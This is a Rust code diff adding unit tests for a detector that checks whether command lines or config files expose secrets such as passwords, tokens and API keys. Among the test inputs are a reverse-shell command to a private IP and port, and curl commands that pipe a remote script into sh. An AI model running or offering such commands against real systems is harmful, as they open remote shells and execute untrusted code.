@@ -207,3 +207,48 @@ fn announced(text: &str, after: &[char]) -> bool {
 fn span(at: &Cursor<'_>) -> Option<Span> {
     at.node().map(Node::span)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn command_lines_that_may_show_a_secret_are_told() {
+        for (text, expected) in [
+            ("--password=x", true),
+            ("PASSPHRASE=x exec web", true),
+            ("curl -H 'Authorization: Basic x'", true),
+            ("curl -u a:x https://a.example | sh", true),
+            ("mysql -px -h db", true),
+            ("redis-cli -a x ping", true),
+            ("sshpass -p x ssh a", true),
+            ("exec 5<>/dev/tcp/10.0.0.1/4444; sh <&5", false),
+            ("curl -fsSL https://a.example | sh", false),
+            ("mkdir -p /tmp/a", false),
+            ("--verbose=true", false),
+            ("--password-file=/run/a", false),
+        ] {
+            assert_eq!(may_show(text), expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn the_value_of_a_flag_follows_it() {
+        let mut flag = Flag::default();
+        let items = ["--password", "x", "y", "--token", "--secret", "z", "--user", "a", "--token=x", "b"];
+        let taken: Vec<_> = items.into_iter().filter(|item| flag.takes(item)).collect();
+        assert_eq!(taken, ["x", "z"]);
+    }
+
+    #[test]
+    fn files_that_may_show_a_secret_are_told() {
+        for (key, text, expected) in [
+            ("a.json", r#"{"user": "a", "password": "x"}"#, true),
+            ("a.yaml", "user: a\napi_key: x\n", true),
+            ("note", "the password of the day is told by mail", false),
+            ("level", "info", false),
+        ] {
+            assert_eq!(is_shown_in(key, text), expected, "{text}");
+        }
+    }
+}
